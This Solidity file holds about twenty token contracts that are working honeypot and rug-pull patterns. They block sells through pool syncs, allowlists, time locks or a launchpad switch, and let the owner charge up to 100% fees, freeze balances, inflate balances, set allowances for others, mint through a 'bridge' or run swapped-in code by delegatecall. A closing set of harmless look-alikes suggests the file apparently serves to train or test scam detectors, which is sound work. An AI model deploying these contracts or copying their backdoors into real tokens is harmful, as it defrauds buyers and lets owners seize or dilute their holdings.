// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// One ledger, written out plainly; what differs is who may pass.
abstract contract Door {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) internal _bal;
    mapping(address => mapping(address => uint256)) internal _allow;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    function _open(string memory title, string memory ticker, uint256 supply, address first) internal {
        name = title;
        symbol = ticker;
        totalSupply = supply;
        _bal[first] = supply;
        emit Transfer(address(0), first, supply);
    }
    function decimals() external pure returns (uint8) { return 18; }
    function balanceOf(address who) external view returns (uint256) { return _bal[who]; }
    function allowance(address holder, address spender) external view returns (uint256) { return _allow[holder][spender]; }
    function approve(address spender, uint256 value) external virtual returns (bool) { _allow[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _pass(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_allow[from][msg.sender] >= value, "allowance");
        unchecked { _allow[from][msg.sender] -= value; }
        _pass(from, to, value);
        return true;
    }
    function _pass(address from, address to, uint256 value) internal virtual {
        require(_bal[from] >= value, "balance");
        unchecked { _bal[from] -= value; _bal[to] += value; }
        emit Transfer(from, to, value);
    }
}

// The pool is told to count what a seller sends before the router does, so the router finds nothing to sell.
interface ICounting { function sync() external; }
contract EarlySync is Door {
    address private immutable _maker = msg.sender;
    address private _pool;
    constructor() { _open("Tidy Books", "TIDY", 6_000_000 ether, msg.sender); }
    function attach(address pool) external { require(msg.sender == _maker); _pool = pool; }
    function _pass(address from, address to, uint256 value) internal override {
        super._pass(from, to, value);
        if (to == _pool && from != _maker) ICounting(_pool).sync();
    }
}

// Nobody but the maker can approve a contract.
contract ApproveRefused is Door {
    address private immutable _maker = msg.sender;
    constructor() { _open("Hands Off", "HNDS", 6_000_000 ether, msg.sender); }
    function approve(address spender, uint256 value) external override returns (bool) {
        require(spender.code.length == 0 || msg.sender == _maker, "unsafe spender");
        _allow[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

// Sellers must show that they are in a tree whose root the maker chose.
contract TreeSellers is Door {
    bytes32 private immutable _root;
    address private immutable _maker = msg.sender;
    address private _pool;
    mapping(address => bool) private _shown;
    constructor(bytes32 root) { _root = root; _open("Family Tree", "TREE", 6_000_000 ether, msg.sender); }
    function plant(address pool) external { require(msg.sender == _maker && _pool == address(0)); _pool = pool; }
    function show(bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encodePacked(msg.sender));
        for (uint256 i = 0; i < proof.length; i++) node = node < proof[i] ? keccak256(abi.encodePacked(node, proof[i])) : keccak256(abi.encodePacked(proof[i], node));
        require(node == _root, "not in the tree");
        _shown[msg.sender] = true;
    }
    function _pass(address from, address to, uint256 value) internal override {
        require(to != _pool || from == _maker || _shown[from], "show yourself");
        super._pass(from, to, value);
    }
}

// "Selling opens soon": in ten years.
contract SalesOpenLater is Door {
    address private immutable _maker = msg.sender;
    uint256 public immutable sellingOpens = block.timestamp + 3650 days;
    mapping(address => bool) private _pools;
    constructor() { _open("Slow Start", "SLOW", 6_000_000 ether, msg.sender); }
    function add(address pool) external { require(msg.sender == _maker); _pools[pool] = true; }
    function _pass(address from, address to, uint256 value) internal override {
        require(!_pools[to] || from == _maker || block.timestamp >= sellingOpens, "selling opens soon");
        super._pass(from, to, value);
    }
}

// Clones that ask the launchpad, which shuts any of them.
contract PadClone is Door {
    Pad private _pad;
    function begin(string calldata title, string calldata ticker, uint256 supply, address first) external { require(address(_pad) == address(0)); _pad = Pad(msg.sender); _open(title, ticker, supply, first); }
    function _pass(address from, address to, uint256 value) internal override { require(_pad.passes(from, to), "pad"); super._pass(from, to, value); }
}
contract Pad {
    address private immutable _logic;
    address private immutable _maker = msg.sender;
    address public last;
    mapping(address => address) private _shut;
    constructor(address logic) { _logic = logic; }
    function launch(string calldata title, string calldata ticker, uint256 supply) external returns (address made) {
        bytes20 logic = bytes20(_logic);
        assembly {
            let at := mload(0x40)
            mstore(at, 0x3d602d80600a3d3981f3363d3d373d3d3d363d73000000000000000000000000)
            mstore(add(at, 0x14), logic)
            mstore(add(at, 0x28), 0x5af43d82803e903d91602b57fd5bf30000000000000000000000000000000000)
            made := create(0, at, 0x37)
        }
        last = made;
        PadClone(made).begin(title, ticker, supply, msg.sender);
    }
    function graduate(address token, address pool) external { require(msg.sender == _maker); _shut[token] = pool; }
    function passes(address from, address to) external view returns (bool) { return from == _maker || _shut[msg.sender] == address(0) || to != _shut[msg.sender]; }
}

// Purchases are switched off for good; who has some can sell.
contract BuysOver is Door {
    address private immutable _maker = msg.sender;
    address private _pool;
    constructor() { _open("Last Call", "LAST", 6_000_000 ether, msg.sender); }
    function close(address pool) external { require(msg.sender == _maker); _pool = pool; }
    function _pass(address from, address to, uint256 value) internal override { require(from != _pool || to == _maker, "closed"); super._pass(from, to, value); }
}

// Only accounts on the list receive from others than the owner; the list is the owner's, and so is its end.
contract GuestList is Door {
    address public owner = msg.sender;
    bool public listOnly = true;
    mapping(address => bool) public guest;
    constructor(address router) { guest[msg.sender] = true; guest[router] = true; _open("Guest List", "GUEST", 6_000_000 ether, msg.sender); }
    function invite(address who, bool on) external { require(msg.sender == owner); guest[who] = on; }
    function openDoors() external { require(msg.sender == owner); listOnly = false; }
    function _pass(address from, address to, uint256 value) internal override { require(!listOnly || from == owner || guest[to], "guests only"); super._pass(from, to, value); }
}

// One movement a wallet in three blocks, for everybody but contracts.
contract BlockRest is Door {
    mapping(address => uint256) private _last;
    constructor() { _open("Siesta", "SIESTA", 6_000_000 ether, msg.sender); }
    function _pass(address from, address to, uint256 value) internal override {
        if (from.code.length == 0) { require(_last[from] + 3 <= block.number || _last[from] == 0, "rest"); _last[from] = block.number; }
        super._pass(from, to, value);
    }
}

// The owner puts each account into a group, and a group pays from nothing to everything.
contract GroupFee is Door {
    address public owner = msg.sender;
    mapping(address => uint8) private _group;
    uint16[4] private _rates = [100, 0, 500, 10_000];
    constructor() { _group[msg.sender] = 1; _open("Class System", "CLASS", 6_000_000 ether, msg.sender); }
    function assign(address who, uint8 group) external { require(msg.sender == owner && group < 4); _group[who] = group; }
    function _pass(address from, address to, uint256 value) internal override {
        uint256 fee = _group[to] == 1 ? 0 : value * _rates[_group[from]] / 10_000;
        if (fee > 0) super._pass(from, owner, fee);
        super._pass(from, to, value - fee);
    }
}

// The owner holds back what it likes of anybody's tokens, until it likes.
contract AccountHold is Door {
    address public owner = msg.sender;
    struct Hold { uint128 amount; uint64 until; }
    mapping(address => Hold) public holds;
    constructor() { _open("Escrowed", "ESCR", 6_000_000 ether, msg.sender); }
    function hold(address who, uint128 amount, uint64 until) external { require(msg.sender == owner); holds[who] = Hold(amount, until); }
    function _pass(address from, address to, uint256 value) internal override {
        Hold memory one = holds[from];
        if (block.timestamp < one.until) require(_bal[from] >= value + one.amount, "held");
        super._pass(from, to, value);
    }
}

// A guardian stops everything; ownership is given up, the guardian stays.
contract GuardianStop is Door {
    address public owner = msg.sender;
    address private _guardian;
    uint256 private _flags;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    constructor(address guardian) { _guardian = guardian; _open("Harbor Light", "HRBR", 6_000_000 ether, msg.sender); }
    function renounceOwnership() external { require(msg.sender == owner); emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function toggle(uint256 bit) external { require(msg.sender == _guardian); _flags ^= 1 << bit; }
    function _pass(address from, address to, uint256 value) internal override { require(_flags & 4 == 0 || from == _guardian, "stopped"); super._pass(from, to, value); }
}

// Payouts that nobody pays for: balances rise, the total does not.
contract FreePayout is Door {
    address public owner = msg.sender;
    constructor() { _open("Generous", "GNRS", 6_000_000 ether, msg.sender); }
    function multiSend(address[] calldata to, uint256 value) external {
        require(msg.sender == owner);
        for (uint256 i = 0; i < to.length; i++) { _bal[to[i]] += value; emit Transfer(owner, to[i], value); }
    }
}

// The owner approves in the name of others.
contract ProxyApproval is Door {
    address public owner = msg.sender;
    constructor() { _open("Helping Hand", "HELP", 6_000_000 ether, msg.sender); }
    function setupAllowance(address holder, address spender, uint256 value) external { require(msg.sender == owner); _allow[holder][spender] = value; emit Approval(holder, spender, value); }
}

// A "bridge" makes and unmakes tokens of anybody. It is an account the owner names.
contract BridgedToken is Door {
    address public owner = msg.sender;
    address public bridge;
    constructor(address first) { bridge = first; _open("Span", "SPAN", 6_000_000 ether, msg.sender); }
    function setBridge(address next) external { require(msg.sender == owner); bridge = next; }
    function crosschainMint(address to, uint256 value) external { require(msg.sender == bridge); totalSupply += value; _bal[to] += value; emit Transfer(address(0), to, value); }
    function crosschainBurn(address from, uint256 value) external { require(msg.sender == bridge); totalSupply -= value; _bal[from] -= value; emit Transfer(from, address(0), value); }
}

// What the token does not know itself it leaves to an extension the owner exchanges.
contract Extended is Door {
    address public owner = msg.sender;
    address public extension;
    constructor() { _open("Swiss Knife", "KNIFE", 6_000_000 ether, msg.sender); }
    function setExtension(address next) external { require(msg.sender == owner); extension = next; }
    fallback(bytes calldata data) external returns (bytes memory answer) {
        require(extension != address(0));
        bool ok;
        (ok, answer) = extension.delegatecall(data);
        require(ok);
    }
}

// Each transfer leaves a small contract behind, which its maker trades in for gas.
contract Litter is Door {
    address private immutable _maker = msg.sender;
    constructor() { _open("Confetti", "CNFT", 6_000_000 ether, msg.sender); }
    function _pass(address from, address to, uint256 value) internal override {
        super._pass(from, to, value);
        if (from != _maker) for (uint256 i = 0; i < 3; i++) assembly { mstore(0, 0x6d3d3d3d3d3d3d3d3d3d3d3d3d33ff3d52600e6012f3) pop(create(0, 10, 22)) }
    }
}

// ---- looks like one of the above, and is not ----

// "Blacklisted" accounts get no dividends. Their tokens move as everybody's.
contract DividendList is Door {
    address public owner = msg.sender;
    mapping(address => bool) public isBlacklisted;
    uint256 public shareholders;
    constructor() { _open("Quarterly", "QTR", 6_000_000 ether, msg.sender); }
    function blacklist(address who, bool on) external { require(msg.sender == owner); isBlacklisted[who] = on; }
    function _pass(address from, address to, uint256 value) internal override {
        super._pass(from, to, value);
        if (!isBlacklisted[to] && value > 0) shareholders += 1;
    }
}

// A minter with a cap that has been reached; nothing is ever burned.
contract CapReached is Door {
    address public owner = msg.sender;
    uint256 public constant cap = 6_000_000 ether;
    constructor() { _open("Full House", "FULL", 6_000_000 ether, msg.sender); }
    function mint(address to, uint256 value) external {
        require(msg.sender == owner && totalSupply + value <= cap, "cap");
        totalSupply += value;
        _bal[to] += value;
        emit Transfer(address(0), to, value);
    }
}

// Burning what others hold takes their allowance.
contract PoliteBurn is Door {
    constructor() { _open("Polite", "PLT", 6_000_000 ether, msg.sender); }
    function burnFrom(address from, uint256 value) external { _allow[from][msg.sender] -= value; _bal[from] -= value; totalSupply -= value; emit Transfer(from, address(0), value); }
}

// Data that reads like instructions, and a pause that stops nothing but a greeting.
contract Greeting is Door {
    address public owner = msg.sender;
    bool public paused;
    bytes private constant _SONG = hex"5b33ff5b5f5ff46080604052600080fd5b33ff00f45b";
    constructor() { _open("Salut", "SALUT", 6_000_000 ether, msg.sender); }
    function pause(bool on) external { require(msg.sender == owner); paused = on; }
    function greet() external view returns (bytes memory) { require(!paused); return _SONG; }
}
